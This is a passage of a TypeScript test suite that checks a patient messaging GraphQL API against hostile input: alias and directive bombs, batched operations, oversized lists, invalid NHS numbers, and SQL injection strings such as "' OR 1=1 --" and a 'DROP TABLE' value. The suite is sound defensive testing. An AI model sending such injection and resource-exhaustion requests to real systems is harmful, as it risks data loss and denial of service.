        ['50 aliases of patient', graphqlBody(`{ ${aliases(50, `patient(nhsNumber: "${DEMO_PATIENT}") { givenName }`)} }`)],
        ['50 aliased sends', graphqlBody(`mutation ($input: SendMessageInput!) { ${aliases(50, 'sendMessage(input: $input) { message { id } }')} }`, { input: validSend({ nhsNumber: SEND_TARGET }) })],
      ],
      adminKey,
      tooComplex,
    );
    // __typename aliases are allowed by graphql-armor (they cost nothing to answer)
    await expectNoProblems([['1,000 aliases of __typename', graphqlBody(`{ ${aliases(1000, '__typename')} }`)]]);
  });

  it('documents with thousands of tokens', async () => {
    await expectNoProblems(
      [
        ['6,000 __typename', graphqlBody(`{ ${'__typename '.repeat(6000)} }`)],
        ['3,000 fragments', graphqlBody(`{ ...F0 } ${Array.from({ length: 3000 }, (_, i) => `fragment F${i} on Query { __typename }`).join(' ')}`)],
        ['a 10,000-item list literal', graphqlBody(`{ messages(first: 1, filter: { categories: [${'PHR, '.repeat(10000)}] }) { totalCount } }`)],
      ],
      adminKey,
      tooComplex,
    );
  });

  it('directive bombs', async () => {
    await expectNoProblems([['50 @skip directives', graphqlBody(`{ messagingCategories ${'@skip(if: false) '.repeat(50)} { category } }`)]], adminKey, (label, answer) => {
      const problems = refusedWith(['QUERY_TOO_COMPLEX', 'BAD_USER_INPUT'])(label, answer);
      if (!errorCodes(answer).includes('QUERY_TOO_COMPLEX')) problems.push(`${label}: no QUERY_TOO_COMPLEX among ${JSON.stringify(errorCodes(answer))}`);
      return problems;
    });
  });
});

describe('batched operations are refused', () => {
  it('a JSON array of operations answers 400 and runs none of them', async () => {
    const before = await messageCount();
    const op = { query: '{ messagingCategories { category } }' };
    const send = { query: SEND, variables: { input: validSend({ nhsNumber: SEND_TARGET, idempotencyKey: 'batched-array' }) } };
    await expectNoProblems(
      [
        ['two queries', { body: JSON.stringify([op, op]), headers: { 'content-type': 'application/json' } }],
        ['one query in an array', { body: JSON.stringify([op]), headers: { 'content-type': 'application/json' } }],
        ['1,000 queries', { body: JSON.stringify(Array(1000).fill(op)), headers: { 'content-type': 'application/json' } }],
        ['two sends', { body: JSON.stringify([send, send]), headers: { 'content-type': 'application/json' } }],
        ['an empty array', { body: '[]', headers: { 'content-type': 'application/json' } }],
      ],
      adminKey,
      refusedWith(['BAD_USER_INPUT'], 400),
    );
    expect(await messageCount()).toBe(before);
  });
});

describe('injection strings in every string argument', () => {
  it('the targets cover every string argument and string input field of every query and mutation', async () => {
    const schema = await buildHubSchema();
    const STRINGY = new Set(['String', 'ID', 'NhsNumber', 'DateTime']);
    const slots: string[] = [];
    const walk = (field: string, path: string[], type: GraphQLInputType, seen: Set<string>) => {
      const named = getNamedType(type);
      if (isInputObjectType(named)) {
        if (seen.has(named.name)) return;
        for (const inner of Object.values(named.getFields())) walk(field, [...path, inner.name], inner.type, new Set([...seen, named.name]));
      } else if (STRINGY.has(named.name)) {
        // named as the targets are: the single `input` argument (and a batch's `messages`) left out
        const shown = path[0] === 'input' ? path.slice(field === 'sendMessages' ? 2 : 1) : path;
        slots.push(`${field}(${shown.join('.')})`);
      }
    };
    for (const root of [schema.getQueryType()!, schema.getMutationType()!]) {
      for (const field of Object.values(root.getFields())) for (const arg of field.args) walk(field.name, [arg.name], arg.type, new Set());
    }
    expect(slots.length).toBeGreaterThan(40);
    const targeted = new Set(TARGETS.map((t) => t.name));
    expect(slots.filter((slot) => !targeted.has(slot))).toEqual([]);
  });

  for (const target of TARGETS) {
    it(
      target.name,
      async () => {
        await expectNoProblems(INJECTIONS.map(([name, value]) => [`${target.name} ← ${name}`, graphqlBody(target.query, target.variables(value))]));
      },
      60_000,
    );
  }

  it('in the document itself', async () => {
    const cases: Array<[string, RawRequest]> = [];
    for (const target of INLINE_TARGETS) {
      for (const [name, value] of INJECTIONS) cases.push([`${target.name} ← ${name}`, graphqlBody(target.query(JSON.stringify(value)))]);
    }
    await expectNoProblems(cases);
  });

  it('as a SENDER, whose queries are scoped by organisation', async () => {
    const { key } = await createApiKey({ apiKeys: hub.stores.apiKeys, organisations: hub.stores.organisations, clock: hub.clock }, { role: Role.SENDER, organisationOdsCode: 'A81001', name: 'hostile sender' });
    const scoped = TARGETS.filter((t) => /^(patients|patient|Patient|message|messages|sendMessage|cancelMessage|reportMessage)\b/.test(t.name));
    const cases: Array<[string, RawRequest]> = [];
    for (const target of scoped) for (const [name, value] of INJECTIONS.slice(0, 6)) cases.push([`SENDER ${target.name} ← ${name}`, graphqlBody(target.query, target.variables(value))]);
    await expectNoProblems(cases, key);
  });

  it('a tautology matches nothing', async () => {
    const answers = await expectNoProblems([
      ['search', graphqlBody('query ($s: String) { patients(first: 200, search: $s) { totalCount } }', { s: "' OR 1=1 --" })],
      ['ods code', graphqlBody('query ($s: String) { messages(first: 1, filter: { organisationOdsCode: $s }) { totalCount } }', { s: "A81001' OR '1'='1" })],
      ['message id', graphqlBody('query ($s: ID!) { message(id: $s) { id } }', { s: "' OR 1=1 --" })],
    ]);
    expect(answers.map((a) => a.body?.data)).toEqual([{ patients: { totalCount: 0 } }, { messages: { totalCount: 0 } }, { message: null }]);
  });
});

describe('invalid NHS numbers', () => {
  const INVALID = ['1234567890', '943 476 5918', '94347659', '94347659190', 'abcdefghij', '943476591X', '', '   ', '９４３４７６５９１９', "943' OR 1=1"];
  const places: Array<[string, string, (n: unknown) => Record<string, unknown>]> = [
    ['patient', 'query ($n: NhsNumber!) { patient(nhsNumber: $n) { nhsNumber } }', (n) => ({ n })],
    ['messages filter', 'query ($n: NhsNumber) { messages(filter: { nhsNumber: $n }) { totalCount } }', (n) => ({ n })],
    ['auditEvents filter', 'query ($n: NhsNumber) { auditEvents(filter: { nhsNumber: $n }) { totalCount } }', (n) => ({ n })],
    ['sendMessage', SEND, (n) => ({ input: { ...validSend(), nhsNumber: n } })],
    ['sendMessages', SEND_MANY, (n) => ({ m: [{ ...validSend(), nhsNumber: n }] })],
    ['upsertPatient', UPSERT_PATIENT, (n) => ({ i: { ...patientInputWith('givenName', 'John'), nhsNumber: n } })],
    ['updateChannelPreferences', 'mutation ($n: NhsNumber!) { updateChannelPreferences(input: { nhsNumber: $n }) { notificationsEnabled } }', (n) => ({ n })],
    ['ingestMessage', INGEST, (n) => ({ i: { ...ingestInputWith('subject', 'Hello'), nhsNumber: n } })],
  ];

  for (const [place, query, variables] of places) {
    it(`${place} answers INVALID_NHS_NUMBER`, async () => {
      const cases: Array<[string, RawRequest]> = INVALID.map((n) => [`${place} ← ${JSON.stringify(n)}`, graphqlBody(query, variables(n))]);
      cases.push([`${place} ← a number`, graphqlBody(query, variables(9434765919))]);
      await expectNoProblems(cases, adminKey, (label, answer) => (errorCodes(answer).every((c) => c === 'INVALID_NHS_NUMBER') && errorCodes(answer).length > 0 ? [] : [`${label}: ${JSON.stringify(errorCodes(answer))}`]));
    });
  }
});

describe('huge lists and numbers', () => {
  it('sendMessages of 1,001 items is refused whole, sending nothing', async () => {
    const before = await messageCount();
    const [answer] = await expectNoProblems([['1,001 sends', graphqlBody(SEND_MANY, { m: Array.from({ length: 1001 }, () => validSend({ nhsNumber: SEND_TARGET })) })]], adminKey, refusedWith(['BAD_USER_INPUT']));
    expect(answer.body!.errors![0].message).toMatch(/1,?000/);
    expect(await messageCount()).toBe(before);
  });

  it('page sizes out of range are refused', async () => {
    const cases: Array<[string, RawRequest]> = [];
    for (const first of [100_000, 201, -1, 2_147_483_647]) {
      cases.push([`messages(first: ${first})`, graphqlBody('query ($f: Int) { messages(first: $f) { totalCount } }', { f: first })]);
      cases.push([`patients(first: ${first})`, graphqlBody('query ($f: Int) { patients(first: $f) { totalCount } }', { f: first })]);
      cases.push([`auditEvents(first: ${first})`, graphqlBody('query ($f: Int) { auditEvents(first: $f) { totalCount } }', { f: first })]);
    }
    cases.push(['first: 100000 in the document', graphqlBody('{ messages(first: 100000) { totalCount } }')]);
    cases.push(['first: 2^31 (not an Int)', graphqlBody('query ($f: Int) { messages(first: $f) { totalCount } }', { f: 2 ** 31 })]);
    cases.push(['first: 1e300', graphqlBody('query ($f: Int) { messages(first: $f) { totalCount } }', { f: 1e300 })]);
    cases.push(['first: 1.5', graphqlBody('query ($f: Int) { messages(first: $f) { totalCount } }', { f: 1.5 })]);
    await expectNoProblems(cases, adminKey, refusedWith(['BAD_USER_INPUT', 'QUERY_TOO_COMPLEX']));
  });

  it('a categories list of 10,000, and other long enum lists, answer without an internal error', async () => {
    await expectNoProblems([
      ['10,000 categories', graphqlBody('query ($c: [MessagingCategory!]) { messages(first: 5, filter: { categories: $c }) { totalCount } }', { c: Array(10_000).fill('PHR') })],
      ['10,000 statuses', graphqlBody('query ($s: [MessageStatus!]) { messages(first: 5, filter: { statuses: $s }) { totalCount } }', { s: Array(10_000).fill('FAILED') })],
      ['10,000 categories on a timeline', graphqlBody(`query ($c: [MessagingCategory!]) { patient(nhsNumber: "${DEMO_PATIENT}") { messages(filter: { categories: $c }) { totalCount } } }`, { c: Array(10_000).fill('IM1_PFS') })],
      ['10,000 opted-out channels', graphqlBody('mutation ($c: [Channel!]) { updateChannelPreferences(input: { nhsNumber: "9434765919", optedOutChannels: $c }) { optedOutChannels } }', { c: Array(10_000).fill('LETTER') })],
      ['10,000 fallback channels', graphqlBody(SEND, { input: validSend({ nhsNumber: SEND_TARGET, routing: { fallbackOrder: Array(10_000).fill('SMS') } }) })],
      ['an unknown category among 10,000', graphqlBody('query ($c: [MessagingCategory!]) { messages(first: 5, filter: { categories: $c }) { totalCount } }', { c: [...Array(9_999).fill('PHR'), 'DROP TABLE'] })],
      ['unreadFallbackHours out of range', graphqlBody(SEND, { input: validSend({ nhsNumber: SEND_TARGET, routing: { unreadFallbackHours: -5 } }) })],
      ['unreadFallbackHours huge', graphqlBody(SEND, { input: validSend({ nhsNumber: SEND_TARGET, routing: { unreadFallbackHours: 2_147_483_647 } }) })],
    ]);
  });
});

describe('work a single request can cause', () => {
  it('an ingested body of 100,000 characters without a space is answered within 2 s', async () => {
    await givenPatient(hub, { nhsNumber: SEND_TARGET });
    const started = Date.now();
    const [answer] = await expectNoProblems([['100,000 x', graphqlBody(INGEST, { i: { ...ingestInputWith('body', 'x'.repeat(100_000)), nhsNumber: SEND_TARGET } })]]);
    const elapsed = Date.now() - started;
    // stored, or refused as too long: either way the body itself was looked at
    if (answer.body?.errors) expect(errorCodes(answer)).toEqual(['BAD_USER_INPUT']);
    else expect(answer.body!.data.ingestMessage.body).toHaveLength(100_000);
    expect(elapsed).toBeLessThan(2000);
  }, 60_000);

  it('a message body of 5,000 characters without a space is answered within 1 s', async () => {
    const started = Date.now();
    const [answer] = await expectNoProblems([['5,000 x', graphqlBody(SEND, { input: sendInputWith('body', `${'x'.repeat(4999)}.`) })]]);
    const elapsed = Date.now() - started;
    expect(errorCodes(answer).filter((code) => !['UNSUPPORTED_CONTENT', 'BAD_USER_INPUT'].includes(code))).toEqual([]);
    expect(elapsed).toBeLessThan(1000);
  });
});

describe('afterwards', () => {
  it('sent at least 200 hostile requests', () => {
    expect(sentCount).toBeGreaterThanOrEqual(200);
  });

  it('the server still answers a normal query correctly', async () => {
    const answer = await hostile(graphqlBody(`{ patient(nhsNumber: "${DEMO_PATIENT}") { nhsNumber givenName familyName messages(first: 50) { totalCount } } messagingCategories { category } }`));
    expect(answer.status).toBe(200);
    expect(answer.body?.errors).toBeUndefined();
    expect(answer.body!.data.patient).toMatchObject({ nhsNumber: DEMO_PATIENT, givenName: 'Amelia', familyName: 'Smith' });
    expect(answer.body!.data.patient.messages.totalCount).toBeGreaterThan(0);
    expect(answer.body!.data.messagingCategories).toHaveLength(4);
    expect((await fetch(`http://127.0.0.1:${server.port}/readyz`)).status).toBe(200);
  });

  it('the messages table still exists with every seeded row', async () => {
    const ids = new Set((await hub.db.dataSource.query('SELECT id FROM messages')).map((r: { id: string }) => r.id));
    expect(seededMessageIds.length).toBeGreaterThan(50);
    expect(seededMessageIds.filter((id) => !ids.has(id))).toEqual([]);
    expect(Number((await hub.db.dataSource.query('SELECT COUNT(*) AS n FROM patients'))[0].n)).toBeGreaterThanOrEqual(52);
    expect(Number((await hub.db.dataSource.query('SELECT COUNT(*) AS n FROM api_keys WHERE revoked_at IS NULL'))[0].n)).toBeGreaterThan(0);
  });
});
